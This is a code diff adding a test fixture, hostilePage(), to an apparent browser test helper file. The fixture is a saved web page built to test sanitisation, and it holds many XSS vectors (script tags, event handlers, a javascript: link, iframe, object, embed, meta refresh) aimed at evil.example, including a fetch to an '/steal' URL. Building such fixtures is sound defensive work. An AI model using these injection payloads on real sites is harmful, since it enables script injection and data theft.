@@ -143,3 +143,20 @@ export async function axeViolations(page) {
     .filter((v) => v.impact === "serious" || v.impact === "critical")
     .map((v) => `${v.id} (${v.impact}): ${v.help} — ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(", ")}`);
 }
+
+/**
+ * A saved web page that tries everything: scripts in head, body and SVG, event handlers,
+ * a javascript: link, iframes, images, objects, a meta refresh and remote styles, all
+ * aimed at evil.example. `a` and `b` are the article's two paragraphs of real text.
+ */
+export function hostilePage(a, b) {
+  return `<!doctype html><html><head><title>Hostile page</title>
+<script>window.__xss = "head script"; fetch("http://evil.example/steal")</script>
+<meta http-equiv="refresh" content="0; url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css"></head>
+<body onload="window.__xss = 'onload'"><article><h1 onclick="window.__xss='h1'">Talks in Istanbul</h1>
+<p>${a} <img src="http://evil.example/pixel.gif" onerror="window.__xss = 'img'"> More text about the embassy talks follows here for length.</p>
+<iframe src="http://evil.example/frame" onload="window.__xss='iframe'"></iframe><script>window.__xss = "body script"</script>
+<p>${b} <a href="javascript:window.__xss='link'">click</a> <svg onload="window.__xss='svg'"><script>window.__xss='svg script'</script></svg></p>
+<object data="http://evil.example/obj"></object><embed src="http://evil.example/embed"><form action="http://evil.example/"><input autofocus onfocus="window.__xss='focus'"></form>
+</article></body></html>`;
+}
